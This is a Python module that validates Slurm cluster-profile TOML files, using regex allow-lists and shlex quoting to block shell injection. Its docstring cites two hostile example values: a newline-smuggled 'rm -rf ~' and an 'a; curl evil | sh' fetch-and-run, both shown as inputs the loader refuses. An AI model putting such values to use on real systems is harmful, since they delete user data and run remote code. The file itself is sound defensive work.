"""Cluster profiles: the site-specific half of a Slurm launch (account, partition, setup, GPUs).

A profile is a TOML file (tomllib; see slurm/profiles/example.toml). It is deliberately
*structured*: there is no free-form "setup lines" field. Modules, the virtualenv, the working
directory, environment variables, container settings and extra srun flags are separate typed
fields, validated here and rendered with ``shlex.quote``; sbatch directive values (partition,
account, ...) must match a conservative character set. So a value such as
``partition = "gpu\\nrm -rf ~"`` or ``account = "a; curl evil | sh"`` is a ConfigError at load
time instead of a line of shell in a script that runs on 32 nodes.

The GPU facts (``hbm_gb``, ``peak_tflops``) are what the sweep checks each cell's memory
estimate against and derives each cell's timeout from, before anything is submitted.

``device = "cpu"`` describes a CPU partition (smoke tests, this project's own CI on
tools/slurm-local): ``ranks_per_node`` gloo ranks per node instead of ``gpus_per_node``, no GPU
directive, and ``hbm_gb`` / ``peak_tflops`` then read per rank (memory budget, CPU FLOP/s).
"""

from __future__ import annotations

import re
import shlex
import sys
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import tomllib

from canzona.errors import ConfigError
from canzona.spec import get_method

# sbatch directive values: names, numbers, lists and simple Slurm expressions, never whitespace,
# quotes, `;`, `$`, backticks or newlines.
_DIRECTIVE = re.compile(r"^[A-Za-z0-9_.,:@+=/-]{1,128}$")
# --constraint additionally allows Slurm's feature expressions (&, |, [], *, !).
_CONSTRAINT = re.compile(r"^[A-Za-z0-9_.,:@+=/&|\[\]*!-]{1,256}$")
_NODELIST = re.compile(r"^[A-Za-z0-9_.,\[\]-]{1,512}$")  # --exclude hostlists: gpu-a[01-04],gpu-b07
_MEM = re.compile(r"^[0-9]+[KMGT]?$")
_SWITCHES = re.compile(r"^[0-9]+(@[0-9:-]+)?$")  # --switches=count[@max-time]
_MODULE = re.compile(r"^[A-Za-z0-9_.+/@-]{1,128}$")
_ENV_KEY = re.compile(r"^[A-Za-z_][A-Za-z0-9_]{0,63}$")
_IMAGE = re.compile(r"^[A-Za-z0-9_.:/#@+=-]{1,512}$")  # pyxis "nvcr.io#nvidia/pytorch:25.01-py3", a .sif/.sqsh path
_MOUNT = re.compile(r"^[A-Za-z0-9_./:+=@-]{1,512}$")  # src:dst[:flags]
_SRUN_ARG = re.compile(r"^--[a-z][a-z0-9-]*(=[A-Za-z0-9_.,:@+=/%-]*)?$")
_CONTROL = re.compile(r"[\x00-\x1f\x7f]")
# Variables the launcher itself sets per rank; a profile must not override them.
_RESERVED_ENV = {
    "RANK",
    "WORLD_SIZE",
    "LOCAL_RANK",
    "LOCAL_WORLD_SIZE",
    "MASTER_ADDR",
    "MASTER_PORT",
    "GROUP_RANK",
    "NODE_RANK",
}
# srun flags the launcher sets itself (each from a profile key, or fixed for a reason).
_OWN_SRUN = {
    "--kill-on-bad-exit": "always 1: one failing node ends the cell's step at once",
    "--ntasks-per-node": "always 1: one torchrun per node",
    "--nodes": "the cell's node count",
    "--cpus-per-task": "set cpus_per_task",
    "--time": "the cell's derived timeout",
    "--output": "per-task logs under runs/<sweep>/logs/",
    "--error": "per-task logs under runs/<sweep>/logs/",
    "--container-image": "set [cluster.container] image",
    "--container-mounts": "set [cluster.container] mounts",
    "--container-workdir": "set [cluster.container] workdir",
}
# Keys of earlier profiles that no longer exist, with what replaced them.
_REMOVED = {
    "array_parallelism": "use max_nodes (the peak number of nodes the sweep holds at once, over all its jobs)",
    "max_num_timeout": "cells are no longer requeued after a timeout or a failure; remove it",
    "signal_delay_s": "cells end at their own derived timeout, before the job's limit; remove it",
}
CONTAINER_RUNTIMES = ("pyxis", "apptainer")

_SPEC: dict[str, tuple[type | tuple[type, ...], bool]] = {
    "name": (str, False),
    "partition": (str, True),
    "device": (str, False),
    "gpus_per_node": (int, False),
    "ranks_per_node": (int, False),
    "cpus_per_task": (int, True),
    "hbm_gb": ((int, float), True),
    "peak_tflops": ((int, float), True),
    "max_nodes": (int, True),
    "account": (str, False),
    "qos": (str, False),
    "constraint": (str, False),
    "gres": (str, False),
    "reservation": (str, False),
    "exclude": (str, False),
    "switches": (str, False),
    "mail_type": (str, False),
    "mail_user": (str, False),
    "wckey": ((bool, str), False),
    "mem": (str, False),
    "exclusive": (bool, False),
    "requeue": (bool, False),
    "srun_args": (list, False),
    "modules": (list, False),
    "venv": (str, False),
    "workdir": (str, False),
    "env": (dict, False),
    "python": (str, False),
    "python_for": (dict, False),
    "exclude_methods": (list, False),
    "container": (dict, False),
    "rdzv_port": (int, False),
}


@dataclass(frozen=True)
class Container:
    """pyxis (srun --container-image/--container-mounts) or apptainer (``apptainer exec --nv``)."""

    runtime: str
    image: str
    mounts: tuple[str, ...] = ()
    workdir: str | None = None
    python: str = "python"

    def srun_flags(self) -> list[str]:
        """pyxis flags on every srun step (apptainer wraps the command instead)."""
        if self.runtime != "pyxis":
            return []
        flags = [f"--container-image={self.image}"]
        if self.mounts:
            flags.append("--container-mounts=" + ",".join(self.mounts))
        if self.workdir:
            flags.append(f"--container-workdir={self.workdir}")
        return flags

    def command_prefix(self) -> list[str]:
        """apptainer's wrapper around the node command (--nv: the host's NVIDIA driver and GPUs)."""
        if self.runtime != "apptainer":
            return []
        argv = ["apptainer", "exec", "--nv"]
        if self.mounts:
            argv += ["--bind", ",".join(self.mounts)]
        if self.workdir:
            argv += ["--pwd", self.workdir]
        return [*argv, self.image]


@dataclass(frozen=True)
class ClusterProfile:
    """A validated cluster profile; every field is safe to render."""

    partition: str
    ranks_per_node: int  # torchrun's processes per node: the GPUs of a node, or gloo ranks on a CPU node
    cpus_per_task: int
    hbm_gb: float
    peak_tflops: float
    max_nodes: int
    name: str = "cluster"
    account: str | None = None
    qos: str | None = None
    constraint: str | None = None
    gres: str | None = None
    reservation: str | None = None
    exclude: str | None = None
    switches: str | None = None
    mail_type: str | None = None
    mail_user: str | None = None
    wckey: str | None = None
    mem: str | None = None
    exclusive: bool = True
    requeue: bool = True
    srun_args: tuple[str, ...] = ()
    modules: tuple[str, ...] = ()
    venv: str | None = None
    workdir: str | None = None
    env: tuple[tuple[str, str], ...] = field(default=())
    python: str | None = None
    python_for: tuple[tuple[str, str], ...] = ()
    exclude_methods: tuple[str, ...] = ()
    container: Container | None = None
    rdzv_port: int = 29500
    device: str = "gpu"
    source: str = field(default="", compare=False)

    @property
    def gpus_per_node(self) -> int:
        """GPUs a job asks per node (``--gpus-per-node``); 0 on a CPU partition."""
        return self.ranks_per_node if self.device == "gpu" else 0

    def nodes_for(self, world: int) -> int:
        """Nodes for ``world`` ranks; a ConfigError when ranks per node does not divide it,
        because a partial node would leave ranks without a GPU or GPUs without a rank."""
        if world % self.ranks_per_node:
            key = "gpus_per_node" if self.device == "gpu" else "ranks_per_node"
            raise ConfigError(
                f"{self.source or 'profile'}: {key} = {self.ranks_per_node} does not divide the world size "
                f"{world}; use a world that is a multiple of {self.ranks_per_node} or fix {key}"
            )
        return world // self.ranks_per_node

    def interpreter(self, method: str | None = None) -> str:
        """The Python that runs on the nodes: ``python_for[method]``, else ``python``, else the
        container's, else the venv's, else the submitting interpreter (a shared filesystem)."""
        for m, py in self.python_for:
            if m == method:
                return py
        if self.python:
            return self.python
        if self.container:
            return self.container.python
        if self.venv:
            return str(Path(self.venv) / "bin" / "python")
        return sys.executable

    def excluded(self, method: str) -> str | None:
        """Why cells of ``method`` are not submitted with this profile, None when they are."""
        if method in self.exclude_methods:
            return f"{method} is in the profile's exclude_methods"
        if get_method(method).peer and method not in dict(self.python_for):
            return (
                f"{method} needs megatron-core >= 0.19 (Python >= 3.12), which the main environment does not hold; "
                f'name its interpreter in the profile ([cluster.python_for] "{method}" = ".../.venv-peer/bin/python") '
                "or list it in exclude_methods"
            )
        return None

    def setup_lines(self) -> list[str]:
        """Shell lines run in the sbatch script before any srun; every value is shlex-quoted."""
        lines: list[str] = []
        if self.modules:
            lines.append("module load " + " ".join(shlex.quote(m) for m in self.modules))
        if self.venv:
            lines.append("source " + shlex.quote(str(Path(self.venv) / "bin" / "activate")))
        if self.workdir:
            lines.append("cd " + shlex.quote(self.workdir))
        for k, v in self.env:
            lines.append(f"export {k}={shlex.quote(v)}")
        if self.container:  # recorded in every results line (canzona.results.env)
            lines.append(f"export CANZONA_CONTAINER_IMAGE={shlex.quote(self.container.image)}")
        return lines


def _check(where: str, key: str, value: str, pattern: re.Pattern[str] = _DIRECTIVE) -> str:
    if not pattern.match(value):
        raise ConfigError(
            f"{where}: {key} = {value!r} contains characters that are not allowed here "
            f"(allowed: {pattern.pattern}); shell text in a profile is refused, use the value Slurm expects"
        )
    return value


def _check_text(where: str, key: str, value: str) -> str:
    if not value or _CONTROL.search(value):
        raise ConfigError(f"{where}: {key} must be a non-empty single line without control characters, got {value!r}")
    return value


def _check_types(where: str, t: dict[str, Any]) -> None:
    for key, why in _REMOVED.items():
        if key in t:
            raise ConfigError(f"{where}: {key} is no longer a profile key: {why}")
    unknown = sorted(set(t) - set(_SPEC))
    if unknown:
        raise ConfigError(f"{where}: unknown key(s) {', '.join(unknown)}; allowed: {', '.join(_SPEC)}")
    for key, (types, required) in _SPEC.items():
        if required and key not in t:
            raise ConfigError(f"{where}: missing required key {key!r} (see slurm/profiles/example.toml)")
        if key in t:
            v = t[key]
            allowed = types if isinstance(types, tuple) else (types,)
            if (isinstance(v, bool) and bool not in allowed) or not isinstance(v, allowed):
                raise ConfigError(f"{where}: {key} must be {'/'.join(x.__name__ for x in allowed)}, got {v!r}")


def _numbers(where: str, t: dict[str, Any], kw: dict[str, Any]) -> None:
    for key in ("gpus_per_node", "ranks_per_node", "cpus_per_task", "max_nodes", "rdzv_port", "hbm_gb", "peak_tflops"):
        if key in t:
            if not t[key] > 0:
                raise ConfigError(f"{where}: {key} must be > 0, got {t[key]}")
            kw[key] = t[key]
    if "rdzv_port" in t and not 1024 <= t["rdzv_port"] <= 64535:
        raise ConfigError(
            f"{where}: rdzv_port must lie in [1024, 64535] (the launcher adds up to 1000), got {t['rdzv_port']}"
        )


def _directives(where: str, t: dict[str, Any], kw: dict[str, Any]) -> None:
    patterns = {
        "partition": _DIRECTIVE,
        "name": _DIRECTIVE,
        "account": _DIRECTIVE,
        "qos": _DIRECTIVE,
        "gres": _DIRECTIVE,
        "reservation": _DIRECTIVE,
        "mail_type": _DIRECTIVE,
        "mail_user": _DIRECTIVE,
        "constraint": _CONSTRAINT,
        "exclude": _NODELIST,
        "switches": _SWITCHES,
        "mem": _MEM,
    }
    for key, pattern in patterns.items():
        if key in t:
            kw[key] = _check(where, key, t[key], pattern)
    if "wckey" in t:  # true: a wckey named "canzona"; a string: that wckey; false / absent: none
        w = t["wckey"]
        kw["wckey"] = ("canzona" if w else None) if isinstance(w, bool) else _check(where, "wckey", w)


def _lists(where: str, t: dict[str, Any], kw: dict[str, Any]) -> None:
    for key, pattern, what in (
        ("modules", _MODULE, "a plain module name; list one module per entry, no shell"),
        ("srun_args", _SRUN_ARG, "one --long-option[=value] per entry"),
        ("exclude_methods", _MODULE, "a method name"),
    ):
        if key not in t:
            continue
        values = t[key]
        for v in values:
            if not isinstance(v, str) or not pattern.match(v):
                raise ConfigError(f"{where}: {key} entry {v!r} is not {what} (allowed: {pattern.pattern})")
        kw[key] = tuple(values)
    for arg in kw.get("srun_args", ()):
        flag = arg.split("=", 1)[0]
        if flag in _OWN_SRUN:
            raise ConfigError(f"{where}: srun_args may not set {flag}: the launcher sets it ({_OWN_SRUN[flag]})")


def _container(where: str, c: dict[str, Any]) -> Container:
    w = f"{where} container"
    unknown = sorted(set(c) - {"runtime", "image", "mounts", "workdir", "python"})
    if unknown:
        raise ConfigError(f"{w}: unknown key(s) {', '.join(unknown)}; allowed: runtime, image, mounts, workdir, python")
    if c.get("runtime") not in CONTAINER_RUNTIMES:
        raise ConfigError(f"{w}: runtime must be one of {', '.join(CONTAINER_RUNTIMES)}, got {c.get('runtime')!r}")
    if not isinstance(c.get("image"), str):
        raise ConfigError(f"{w}: image is required (a pyxis image such as nvcr.io#nvidia/pytorch:25.01-py3, or a path)")
    mounts = c.get("mounts", [])
    if not isinstance(mounts, list) or not all(isinstance(m, str) and _MOUNT.match(m) for m in mounts):
        raise ConfigError(f"{w}: mounts must be a list of src:dst[:flags] entries (allowed: {_MOUNT.pattern})")
    workdir = c.get("workdir")
    if workdir is not None and not (isinstance(workdir, str) and _MOUNT.match(workdir)):
        raise ConfigError(f"{w}: workdir must be a plain path, got {workdir!r}")
    python = c.get("python", "python")
    if not isinstance(python, str) or not _MOUNT.match(python):
        raise ConfigError(f"{w}: python must be a plain path inside the image, got {python!r}")
    return Container(c["runtime"], _check(w, "image", c["image"], _IMAGE), tuple(mounts), workdir, python)


def _setup(where: str, t: dict[str, Any], kw: dict[str, Any]) -> None:
    for key in ("venv", "workdir", "python"):
        if key in t:
            kw[key] = _check_text(where, key, t[key])
    if "python_for" in t:
        kw["python_for"] = tuple(
            (m, _check_text(where, f"python_for.{m}", str(py))) for m, py in t["python_for"].items()
        )
    if "env" in t:
        env = []
        for k, v in t["env"].items():
            if not _ENV_KEY.match(k):
                raise ConfigError(f"{where}: env key {k!r} is not a shell variable name (allowed: {_ENV_KEY.pattern})")
            if k in _RESERVED_ENV:
                raise ConfigError(f"{where}: env key {k} is set per rank by the launcher (torchrun); remove it")
            if isinstance(v, bool) or not isinstance(v, (str, int, float)):
                raise ConfigError(f"{where}: env.{k} must be a string or number, got {v!r}")
            env.append((k, _check_text(where, f"env.{k}", str(v))))
        kw["env"] = tuple(env)
    if "container" in t:
        kw["container"] = _container(where, t["container"])


def _device(where: str, t: dict[str, Any], kw: dict[str, Any]) -> None:
    """gpu (default): ``gpus_per_node`` GPUs per node; cpu: ``ranks_per_node`` gloo ranks, no GPU."""
    device = t.get("device", "gpu")
    if device not in ("gpu", "cpu"):
        raise ConfigError(f'{where}: device must be "gpu" or "cpu", got {device!r}')
    own, other = ("gpus_per_node", "ranks_per_node") if device == "gpu" else ("ranks_per_node", "gpus_per_node")
    if own not in t:
        raise ConfigError(f"{where}: missing required key {own!r} for a {device} profile (see slurm/profiles/)")
    if other in t or (device == "cpu" and "gres" in t):
        bad = other if other in t else "gres"
        raise ConfigError(f"{where}: {bad} does not apply to a {device} profile; use {own}")
    kw["device"] = device
    kw["ranks_per_node"] = kw.pop(own)


def parse_profile(data: dict[str, Any], source: str = "<profile>") -> ClusterProfile:
    """Validate a parsed profile document (the ``[cluster]`` table)."""
    if set(data) != {"cluster"}:
        raise ConfigError(
            f"{source}: a profile holds exactly one [cluster] table (found: {', '.join(data) or 'nothing'})"
        )
    t = data["cluster"]
    where = f"{source} [cluster]"
    if "partition" not in t:
        raise ConfigError(
            f"{where}: missing required key 'partition' (the Slurm partition to submit to, e.g. partition = \"gpu\")"
        )
    _check_types(where, t)
    kw: dict[str, Any] = {"source": source}
    _numbers(where, t, kw)
    _device(where, t, kw)
    _directives(where, t, kw)
    _lists(where, t, kw)
    for key in ("exclusive", "requeue"):
        if key in t:
            kw[key] = t[key]
    _setup(where, t, kw)
    kw["hbm_gb"], kw["peak_tflops"] = float(kw["hbm_gb"]), float(kw["peak_tflops"])
    return ClusterProfile(**kw)


def read_toml(p: Path, missing: str) -> dict[str, Any]:
    """A TOML file's table, or ConfigError: ``missing`` when absent, the parser's reason when malformed."""
    if not p.is_file():
        raise ConfigError(missing)
    try:
        return tomllib.loads(p.read_text())
    except tomllib.TOMLDecodeError as exc:
        raise ConfigError(f"{p}: not valid TOML ({exc})") from None


def load_profile(path: str | Path) -> ClusterProfile:
    """Read and validate a cluster profile (TOML). ConfigError names the file and the key."""
    p = Path(path)
    if p.suffix.lower() in (".yaml", ".yml"):
        raise ConfigError(
            f"{p}: profiles are TOML (read with the standard library's tomllib); "
            "copy slurm/profiles/example.toml and fill it in"
        )
    data = read_toml(p, f"cluster profile {p} not found; copy slurm/profiles/example.toml and fill it in")
    return parse_profile(data, str(p))
